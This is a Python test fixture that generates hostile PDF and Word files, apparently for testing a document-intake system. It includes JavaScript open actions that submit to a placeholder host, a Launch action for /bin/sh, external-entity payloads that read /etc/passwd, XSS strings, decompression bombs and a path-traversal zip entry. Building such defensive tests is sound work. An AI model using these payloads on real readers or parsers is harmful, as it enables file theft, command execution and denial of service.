"""PDFs and Word documents that mean harm: programs in them, addresses they would call, shapes that tire a reader."""

# ruff: noqa: E501 - what is harmful is easier to see on one line

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Iterator

from tests.hostile.markup import RUN, WORDS
from tests.intake.files import ARTICLE, document, pdf, zipped

HERE = b"here.invalid:80"
SAID = RUN.replace("HERE", HERE.decode())
LINES = [
    WORDS,
    "It gave no reasons for that, and nobody asked.",
    f"<script>{SAID}</script><img src=x onerror={SAID}>",
]


def paper(
    *more: bytes,
    catalogue: bytes = b"",
    page: bytes = b"",
    box: bytes = b"0 0 595 842",
    content: bytes | None = None,
    info: bytes = b"/Title (<script>window.hostile=1</script>)",
) -> bytes:
    """A PDF of one page with these entries in its catalogue and page; further objects begin at number 7."""
    drawn = b" T* ".join(b"(%s) Tj" % _spelt(line) for line in LINES)
    content = content if content is not None else b"BT /F1 11 Tf 14 TL 50 780 Td %s ET" % drawn
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalogue,
        b"<< /Type /Pages /Kids [5 0 R] /Count 1 >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        content if content.startswith(b"<<") else b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [%s] /Contents 4 0 R /Resources << /Font << /F1 3 0 R >> >> %s >>"
        % (box, page),
        b"<< %s >>" % info,
        *more,
    ]  # fmt: skip
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, each in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R /Info 6 0 R >>\nstartxref\n%d\n%%%%EOF" % (
        len(objects) + 1,
        table,
    )
    return bytes(out)


def _spelt(line: str) -> bytes:
    return line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)").encode("cp1252")


def _packed(data: bytes) -> bytes:
    made = zlib.compress(data, 9)
    return b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(made), made)


def _stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


JS = b"<< /S /JavaScript /JS (app.alert(1); this.submitForm('http://here.invalid:80/js');) >>"
URI = b"<< /S /URI /URI (http://here.invalid:80/uri) >>"
XFA = b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><!DOCTYPE x [<!ENTITY y SYSTEM 'http://here.invalid:80/xfa'>]>&y;</xdp:xdp>"
XMP = b"<?xpacket?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x:xmpmeta xmlns:x='adobe:ns:meta/'>&y;</x:xmpmeta>"


def acting() -> Iterator[tuple[str, bytes]]:
    """Papers that would do something when they are opened."""
    yield "open action with script", paper(catalogue=b"/OpenAction " + JS)
    yield "open action with address", paper(catalogue=b"/OpenAction " + URI)
    yield "names with script", paper(catalogue=b"/Names << /JavaScript << /Names [(a) %s] >> >>" % JS)
    yield (
        "additional actions",
        paper(catalogue=b"/AA << /WC %s /DS %s >>" % (JS, JS), page=b"/AA << /O %s >>" % JS),
    )
    yield "launch", paper(catalogue=b"/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>")
    yield (
        "go to another file",
        paper(catalogue=b"/OpenAction << /S /GoToR /F (http://here.invalid:80/other.pdf) /D [0 /Fit] >>"),
    )
    yield "go to an embedded file", paper(catalogue=b"/OpenAction << /S /GoToE /T << /R /C /N (a) >> >>")
    yield (
        "submit a form",
        paper(catalogue=b"/OpenAction << /S /SubmitForm /F (http://here.invalid:80/submit) >>"),
    )
    yield (
        "import data",
        paper(catalogue=b"/OpenAction << /S /ImportData /F (http://here.invalid:80/data.fdf) >>"),
    )
    annotation = b"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A %s >>" % URI.replace(
        b"http", b"javascript:http"
    )
    yield "a link over the page", paper(annotation, page=b"/Annots [7 0 R]")
    movie = (
        b"<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (http://here.invalid:80/m.avi) >> >>"
    )
    rich = b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets << /Names [] >> >> >>"
    yield "film and rich media", paper(movie, rich, page=b"/Annots [7 0 R 8 0 R]")
    file = _stream(b"MZ not a program", b"/Type /EmbeddedFile")
    yield "an embedded file", paper(
        file, b"<< /Type /Filespec /F (../../a.exe) /EF << /F 7 0 R >> >>",
        catalogue=b"/Names << /EmbeddedFiles << /Names [(a.exe) 8 0 R] >> >>",
    )  # fmt: skip
    yield "a form in XML", paper(_stream(XFA), catalogue=b"/AcroForm << /XFA 7 0 R /Fields [] >>")
    yield (
        "metadata with an entity",
        paper(_stream(XMP, b"/Type /Metadata /Subtype /XML"), catalogue=b"/Metadata 7 0 R"),
    )
    external = (
        b"<< /Length 0 /F (http://here.invalid:80/stream) /FFilter /FlateDecode >>\nstream\n\nendstream"
    )
    yield "a stream from elsewhere", paper(external, catalogue=b"/Extra 7 0 R")
    image = b"<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /F (http://here.invalid:80/i.png) /Length 0 >>\nstream\n\nendstream"
    yield "a picture from elsewhere", paper(image, page=b"/Thumb 7 0 R")


def tiring() -> Iterator[tuple[str, bytes]]:
    """Papers whose shape is the harm."""
    good = pdf(ARTICLE, ARTICLE)
    yield "a huge page", paper(box=b"0 0 1000000000 1000000000")
    yield "a page of no size", paper(box=b"0 0 0 0")
    yield "a page inside out", paper(box=b"5 5 -99999 -1e30")
    yield "twenty thousand objects", paper(*([b"<< /A [1 2 3] >>"] * 20_000))
    yield "a bomb for content", paper(content=_packed(b"\0" * 60_000_000))
    yield "a bomb of operators", paper(content=_packed(b"q " * 3_000_000))
    yield "endless text", paper(content=_packed(b"BT /F1 1 Tf " + b"(words and words) Tj " * 40_000 + b"ET"))
    yield (
        "a bomb in a bomb",
        paper(
            content=b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n%s\nendstream"
            % (len(twice := zlib.compress(zlib.compress(b"\0" * 60_000_000, 9), 9)), twice)
        ),
    )
    yield "pages in a circle", good.replace(b"/Kids [4 0 R 6 0 R]", b"/Kids [2 0 R 2 0 R]")
    yield "a parent that is its child", paper(page=b"/Parent 5 0 R")
    yield "nested arrays", paper(catalogue=b"/Deep " + b"[" * 30_000 + b"]" * 30_000)
    yield "a table that is elsewhere", good.replace(b"startxref\n", b"startxref\n99")
    yield (
        "a table before itself",
        good.replace(b"trailer\n<<", b"trailer\n<< /Prev %d" % good.rindex(b"xref\n0")),
    )
    yield "a table of nonsense", good[: good.rindex(b"xref\n0")] + b"xref\n0 999999999\n" + b"x" * 2000
    yield "cut in the middle", good[: len(good) // 2]
    yield "a million pages said", good.replace(b"/Count 2", b"/Count 1000000000")
    yield (
        "a font that means something else",
        paper(
            _stream(b"/CIDInit /ProcSet findresource begin 1 beginbfrange <00> <ff> <003C> endbfrange end"),
            page=b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /X /ToUnicode 7 0 R >> >> >>",
        ),
    )
    yield "and a script beside it", good + f"<html><script>{SAID}</script></html>".encode()


def documents(here: str) -> Iterator[tuple[str, bytes]]:
    """Word files that would fetch a template, a picture or an entity."""
    with zipfile.ZipFile(io.BytesIO(document(*LINES, heading="<script>window.hostile=1</script>"))) as read:
        parts = {name: read.read(name) for name in read.namelist()}
    relation = (
        b'<Relationship Id="x%d" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
        b'Target="http://here.invalid:80/%s" TargetMode="External"/></Relationships>'
    )
    for number, kind in enumerate((b"attachedTemplate", b"image", b"oleObject", b"frame", b"hyperlink")):
        name = "word/_rels/document.xml.rels"
        changed = parts[name].replace(b"</Relationships>", relation % (number, kind, kind))
        yield f"a {kind.decode()} from elsewhere", zipped({**parts, name: _led(changed, here)})
    body = parts["word/document.xml"]
    for number, address in enumerate((b"file:///etc/passwd", b"http://here.invalid:80/docx-entity")):
        head = b'<!DOCTYPE x [<!ENTITY y SYSTEM "%s">]><w:document' % address
        made = (
            body.replace(b"<w:document", head, 1).replace(b"They", b"&y;").replace(b"It gave", b"&y; It gave")
        )
        yield f"an entity {number}", zipped({**parts, "word/document.xml": _led(made, here)})
    yield "paths that climb", zipped({**parts, "../../../tmp/hostile-was-here": b"x"})


def _led(data: bytes, here: str) -> bytes:
    """With the address in it. It is as long as what it replaces: the tables of a PDF count bytes."""
    assert len(here) == len(HERE)
    return data.replace(HERE, here.encode())


def papers(here: str) -> Iterator[tuple[str, str, bytes]]:
    """Every file that would do something: its name, what it is called, its bytes."""
    for name, data in acting():
        yield name, "hostile.pdf", _led(data, here)
    for name, data in documents(here):
        yield name, "hostile.docx", data
